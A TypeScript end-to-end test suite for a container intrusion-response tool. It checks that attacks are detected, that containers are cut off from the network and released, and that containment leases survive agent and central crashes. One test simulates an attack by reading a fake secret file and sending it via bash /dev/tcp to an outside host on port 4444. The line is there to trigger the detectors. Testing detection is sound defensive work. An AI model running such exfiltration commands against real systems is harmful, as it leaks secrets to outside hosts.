/** From what a process did to a container that is cut off, and back, through deaths of agent and central. */
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { IncidentAnswer, IncidentLine, ListedContainment } from '../../cli/client/answers.ts';
import { cleanUp, skipReason } from '../native/kernel-fixtures.ts';
import { type RunningAgent, type RunningCentral, startAgent, startCentral } from './processes.ts';
import {
  connects,
  detectionsIn,
  eventually,
  hold,
  OUTSIDE,
  openWorld,
  sendDatagram,
  type TestContainer,
  untilConnecting,
  type World,
} from './world.ts';

const EXAMPLES = join(import.meta.dirname, '../../manifests/examples/policies');
/** Until then a shell may be part of a server's start. */
const SERVER_AGE_MS = 10_500;
const EPERM = 1;

const refusal = skipReason('containment from end to end');

describe.skipIf(refusal !== null)('response', { timeout: 90_000 }, () => {
  let world: World;
  let central: RunningCentral;
  let agent: RunningAgent;
  let shop: TestContainer;
  let openedAt = 0;

  const containments = async (): Promise<ListedContainment[]> =>
    ((await central.people.get('/api/v1/containments')) as { containments: ListedContainment[] })
      .containments;
  const inState = (container: string, state: string): Promise<ListedContainment> =>
    eventually(`containment ${state}`, async () => {
      const all = await containments();
      return all.find((each) => each.container.id === container && each.state === state) ?? null;
    });
  const undo = (order: string): Promise<unknown> =>
    central.people.post(`/api/v1/containments/${order}/undo`, { reason: 'test' });
  /** A container that is known by its pod, contained by a person. */
  async function contained(name: string, lease: string): Promise<TestContainer> {
    const container = await world.container({ name, namespace: 'other' });
    await eventually('the agent knows it', () => agent.knows(container.id)).catch(async (error: Error) => {
      // Seen once on a busy machine: what the agent has to say for itself.
      const told = JSON.stringify({ id: container.id, status: await agent.status() });
      throw new Error(`${error.message}; the agent says ${told}`);
    });
    const body = { container: container.id, lease, reason: 'test', killOnExec: false };
    await eventually('central knows it', () =>
      central.people.post('/api/v1/containments', body).then(
        () => true,
        (error: { code?: unknown }) => {
          if (error.code === 'PICKET_NOT_FOUND') return false;
          throw error;
        },
      ),
    );
    await inState(container.id, 'applied');
    return container;
  }

  const centralKnows = (container: TestContainer): Promise<true> =>
    eventually('central knows it', async () => {
      const { containers } = (await central.people.get('/api/v1/containers?limit=1000')) as {
        containers: { id: string }[];
      };
      return containers.some(({ id }) => id === container.id);
    });

  beforeAll(async () => {
    world = await openWorld();
    shop = await world.container({ name: 'shop', namespace: 'demo' });
    openedAt = Date.now();
    // The shipped policy, but for its rate: these tests make more orders than an hour should see.
    const policy = readFileSync(join(EXAMPLES, 'enforce-demo.yaml'), 'utf8').replace(
      /perHour: \d+/,
      'perHour: 100',
    );
    const policyFile = join(world.folder, 'policy.yaml');
    writeFileSync(policyFile, policy);
    central = await startCentral(world.folder, { 'policy-files': policyFile });
    agent = await startAgent(central, { 'pin-folder': world.pins, pods: world.podsFile });
    await eventually('enrolment', async () => (await agent.status()).central.enrolled);
  }, 90_000);
  afterAll(cleanUp, 30_000);

  test('an attack is detected, its container cut off by policy, and given back by a person', async () => {
    const [watcher, talker] = [await shop.join(), await shop.join()];
    expect([await connects(watcher), await hold(talker), await talker.ask('echo')]).toEqual([0, 0, 0]);
    expect(await sendDatagram(watcher)).toBe(0);
    const before = await eventually('a datagram', () => world.datagrams() || null);
    await sleep(Math.max(0, openedAt + SERVER_AGE_MS - Date.now()));
    const secret = join(world.folder, 'shadow');
    writeFileSync(secret, 'made up\n');

    const attackedAt = Date.now();
    const attack = shop.run(`read line < ${secret}
      cat ${secret} > /dev/null
      bash -c 'echo "$0" > /dev/tcp/${OUTSIDE}/4444' "$line"`);
    const cutAt = await untilConnecting(watcher, false);
    await attack;
    const containment = await inState(shop.id, 'applied');

    const seen = detectionsIn(agent.alertLog, shop.id).filter(
      ({ time }) => Date.parse(time) >= attackedAt - 2,
    );
    const detectors = new Set(seen.map(({ detector }) => detector));
    expect([...detectors]).toEqual(expect.arrayContaining(['server-spawns-shell', 'secret-read']));
    const { incidents } = (await central.people.get('/api/v1/incidents')) as { incidents: IncidentLine[] };
    expect(incidents.filter(({ involved }) => involved.some(({ id }) => id === shop.id))).toHaveLength(1);
    expect(await connects(watcher)).toBe(EPERM);
    expect(await talker.ask('echo')).not.toBe(0);
    expect(await sendDatagram(watcher)).toBe(EPERM);
    expect(world.datagrams()).toBe(before);
    const first = Math.min(...seen.map(({ time }) => Date.parse(time)));
    console.log(
      `measured: first event to order ${containment.issuedMs - first} ms, to cut off ${cutAt - first} ms; detected by ${[...detectors].join(', ')}`,
    );

    const undoneAt = Date.now();
    await undo(containment.id);
    const backAt = await untilConnecting(watcher, true);
    console.log(`measured: undo to connected again ${backAt - undoneAt} ms`);
    await inState(shop.id, 'released');
    const bytes = world.datagrams();
    expect(await sendDatagram(watcher)).toBe(0);
    await eventually('a datagram', () => world.datagrams() > bytes);
    await Promise.all([watcher.end(), talker.end(), shop.end()]);
  });

  test('a lease holds and ends on time by the kernel alone when the agent is killed', async () => {
    const container = await contained('lonely', '8s');
    const { untilMs } = await inState(container.id, 'applied');

    await agent.kill();

    expect(await connects(container)).toBe(EPERM);
    const backAt = await untilConnecting(container, true);
    console.log(`measured: the lease ended ${backAt - untilMs} ms after its time, without an agent`);
    expect(backAt).toBeGreaterThanOrEqual(untilMs - 50);
    expect(backAt).toBeLessThan(untilMs + 5000);
    agent = await agent.again();
    await inState(container.id, 'expired');
  });

  test('an agent that starts again after a kill adopts the lease, reports it, and ends it when told', async () => {
    const container = await contained('orphan', '5m');
    const { id } = await inState(container.id, 'applied');

    await agent.kill();
    expect(await connects(container)).toBe(EPERM);
    const restartedAt = Date.now();
    agent = await agent.again();
    console.log(`measured: start of an agent with a lease ${Date.now() - restartedAt} ms`);

    expect((await agent.status()).containment.adopted).toBe(true);
    expect((await agent.leases()).map(({ order }) => order)).toContain(id);
    expect((await agent.kernel()).map(({ cgroup }) => cgroup)).toContain(container.cgroup.id);
    expect(await connects(container)).toBe(EPERM);
    expect((await inState(container.id, 'applied')).id).toBe(id);
    await undo(id);
    await untilConnecting(container, true);
    await inState(container.id, 'released');
  });

  test('an order that comes while the agent is dead is applied when it is back', async () => {
    const container = await world.container({ name: 'late', namespace: 'other' });
    await centralKnows(container);
    await agent.kill();
    await central.people.post('/api/v1/containments', { container: container.id, reason: 'test' });
    expect(await connects(container)).toBe(0);

    agent = await agent.again();

    const { id } = await inState(container.id, 'applied');
    expect(await connects(container)).toBe(EPERM);
    await undo(id);
    await untilConnecting(container, true);
  });

  test('a container that is started anew under a lease is cut off before its name is known', async () => {
    const old = await contained('phoenix', '5m');
    const { id } = await inState(old.id, 'applied');
    await old.end();
    await old.cgroup.remove();
    const started = { namespace: 'other', podUid: old.podUid, unlisted: true };

    const fresh = await world.container({ name: 'phoenix', ...started });
    const startedAt = Date.now();
    const cutAt = await untilConnecting(fresh, false);
    console.log(`measured: free ${cutAt - startedAt} ms after its start, not listed`);
    expect(fresh.cgroup.id).not.toBe(old.cgroup.id);
    world.list(fresh, 'other');
    await eventually('the agent knows it', () => agent.knows(fresh.id));
    expect(await connects(fresh)).toBe(EPERM);
    await undo(id);
    await untilConnecting(fresh, true);
  });

  test('another container of a pod under a lease has its network back once it is named', async () => {
    const old = await contained('main', '5m');
    const { id } = await inState(old.id, 'applied');
    const sidecar = await world.container({
      name: 'sidecar',
      namespace: 'other',
      podUid: old.podUid,
      unlisted: true,
    });

    await untilConnecting(sidecar, false);
    world.list(sidecar, 'other');
    await untilConnecting(sidecar, true);

    expect(await connects(old)).toBe(EPERM);
    await undo(id);
    await untilConnecting(old, true);
    await sidecar.end();
  });

  test('a container whose new id is listed before it starts is cut off before it can do much', async () => {
    const old = await contained('quick', '5m');
    const { id } = await inState(old.id, 'applied');
    await old.end();
    await old.cgroup.remove();

    const fresh = await world.container({ name: 'quick', namespace: 'other', podUid: old.podUid });
    const startedAt = Date.now();
    const cutAt = await untilConnecting(fresh, false);

    console.log(`measured: free ${cutAt - startedAt} ms after its start, listed before`);
    await undo(id);
    await untilConnecting(fresh, true);
  });

  test('a liveness probe that fails under containment restarts the container and does not set it free', async () => {
    let container = await contained('probed', '10m');
    const { id } = await inState(container.id, 'applied');
    // As a kubelet does: a probe that needs what is cut fails, the container is killed and begun anew in its pod.
    const alive = async (): Promise<boolean> => (await connects(container)) === 0;
    for (let restart = 1; restart <= 3; restart++) {
      expect(await alive()).toBe(false);
      await container.end();
      await container.cgroup.remove();
      container = await world.container({ name: 'probed', namespace: 'other', podUid: container.podUid });
      await untilConnecting(container, false);
    }
    const told = await eventually('people are told why it restarts', async () => {
      const { steps } = (await central.people.get('/api/v1/steps?limit=1000')) as Pick<
        IncidentAnswer,
        'steps'
      >;
      return (
        steps.find(({ order, text }) => order === id && /restarted under containment/.test(text)) ?? null
      );
    });
    expect(told.text).toMatch(/does not set it free; verified from inside/);
    await undo(id);
    await untilConnecting(container, true);
    await container.end();
  });

  test('a lease that came before the pod was listed follows the container through a restart too', async () => {
    const old = await world.container({ name: 'early', namespace: 'other', unlisted: true });
    await centralKnows(old);
    await central.people.post('/api/v1/containments', { container: old.id, reason: 'test' });
    const { id } = await inState(old.id, 'applied');
    world.list(old, 'other');
    await eventually('the agent knows it', () => agent.knows(old.id));
    await old.end();
    await old.cgroup.remove();

    const fresh = await world.container({ name: 'early', namespace: 'other', podUid: old.podUid });

    await untilConnecting(fresh, false);
    await undo(id);
    await untilConnecting(fresh, true);
    await fresh.end();
  });

  test('a central that is killed under a containment keeps order and incident, and undo works', async () => {
    const container = await contained('steady', '5m');
    const { id } = await inState(container.id, 'applied');
    const incidents = async () => (await central.people.get('/api/v1/incidents')) as object;
    const before = await incidents();

    await central.kill();
    expect(await connects(container)).toBe(EPERM);
    central = await central.again();

    expect(await incidents()).toEqual(before);
    expect((await inState(container.id, 'applied')).id).toBe(id);
    expect(await connects(container)).toBe(EPERM);
    await undo(id);
    await untilConnecting(container, true);
    await inState(container.id, 'released');
    const { steps } = (await central.people.get('/api/v1/steps')) as Pick<IncidentAnswer, 'steps'>;
    expect(steps.filter(({ order }) => order === id).map(({ action }) => action)).toContain('contain');
  });

  test('further attacks are each cut off; how fast is measured', async () => {
    const times: { ordered: number; cut: number }[] = [];
    for (const name of ['shop-a', 'shop-b', 'shop-c', 'shop-d', 'shop-e']) {
      const victim = await world.container({ name, namespace: 'demo' });
      const watcher = await victim.join();
      await eventually('the agent knows it', () => agent.knows(victim.id));
      await centralKnows(victim);
      const secret = join(world.folder, 'shadow');
      writeFileSync(secret, 'made up\n');
      const attackedAt = Date.now();
      const attack = victim.run(`cat ${secret} > /dev/null`);
      const cutAt = await untilConnecting(watcher, false);
      await attack;
      const { id, issuedMs } = await inState(victim.id, 'applied');
      const [first] = detectionsIn(agent.alertLog, victim.id).filter(
        (line) => line.detector === 'secret-read' && Date.parse(line.time) >= attackedAt - 2,
      );
      const readAt = Date.parse(first?.time ?? '');
      times.push({ ordered: issuedMs - readAt, cut: cutAt - readAt });
      await undo(id);
      await untilConnecting(watcher, true);
      await Promise.all([watcher.end(), victim.end()]);
    }
    const middle = (key: 'ordered' | 'cut'): number =>
      times.map((each) => each[key]).toSorted((a, b) => a - b)[2] ?? Number.NaN;
    console.log(
      `measured: secret read to order ${middle('ordered')} ms, to cut off ${middle('cut')} ms (medians): ${JSON.stringify(times)}`,
    );
    expect(times.filter(({ ordered, cut }) => !(ordered >= 0 && cut >= 0))).toEqual([]);
  });

  test('an attack while central is dead is answered when central is back', async () => {
    const victim = await world.container({ name: 'unlucky', namespace: 'demo' });
    await centralKnows(victim);
    await central.kill();
    const secret = join(world.folder, 'shadow');
    writeFileSync(secret, 'made up\n');
    await victim.run(`cat ${secret} > /dev/null`);
    await eventually('it in the log', () => detectionsIn(agent.alertLog, victim.id).length > 0);
    expect(await connects(victim)).toBe(0);

    const startedAt = Date.now();
    central = await central.again();

    const cutAt = await untilConnecting(victim, false);
    console.log(`measured: cut off ${cutAt - startedAt} ms after the start of central`);
    const { id } = await inState(victim.id, 'applied');
    await undo(id);
    await untilConnecting(victim, true);
  });

  test('a central that is killed while it answers an attack still makes exactly one order of it', async () => {
    for (const afterMs of [5, 25, 60]) {
      const victim = await world.container({ name: `unlucky-${afterMs}`, namespace: 'demo' });
      await centralKnows(victim);
      const secret = join(world.folder, 'shadow');
      writeFileSync(secret, 'made up\n');
      const attack = victim.run(`cat ${secret} > /dev/null`);
      await eventually('it in the log', () => detectionsIn(agent.alertLog, victim.id).length > 0);
      await sleep(afterMs);
      await central.kill();
      await attack;

      central = await central.again();

      const { id } = await inState(victim.id, 'applied');
      expect(await connects(victim)).toBe(EPERM);
      const orders = (await containments()).filter((each) => each.container.id === victim.id);
      expect(orders.map((order) => order.id)).toEqual([id]);
      await undo(id);
      await untilConnecting(victim, true);
      await victim.end();
    }
  });

  test('undo works also when the agent was killed and its lease file is gone', async () => {
    const container = await contained('forgotten', '5m');
    const { id } = await inState(container.id, 'applied');
    await agent.kill();
    rmSync(join(world.folder, 'agent', 'leases.json'));
    agent = await agent.again();
    expect(await connects(container)).toBe(EPERM);

    await undo(id);

    await untilConnecting(container, true, 10_000);
    await inState(container.id, 'released');
  });
});
